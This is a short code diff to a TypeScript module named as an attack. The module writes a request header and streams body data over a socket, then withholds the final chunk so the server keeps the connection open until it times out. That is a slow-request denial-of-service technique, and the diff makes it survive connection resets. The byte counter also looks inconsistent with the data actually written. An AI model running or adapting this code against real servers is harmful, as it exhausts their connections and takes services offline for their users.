@@ -17,7 +17,9 @@ export const attack: Attack = {
       if (!socket) return;
       socket.resume().write(HEAD);
       for (let sent = 0; sent < BODY_BYTES && !socket.destroyed; sent += CHUNKS.length / 6) {
-        if (!socket.write(CHUNKS)) await Promise.race([once(socket, 'drain'), once(socket, 'close')]);
+        // A connection that the gateway resets while it is written to has an end like any other.
+        if (!socket.write(CHUNKS))
+          await Promise.race([once(socket, 'drain'), once(socket, 'close')]).catch(() => undefined);
       }
       // Whole but for the last chunk: it is kept until the server gives up on it.
       await new Promise((resolve) => setTimeout(resolve, 5_000));
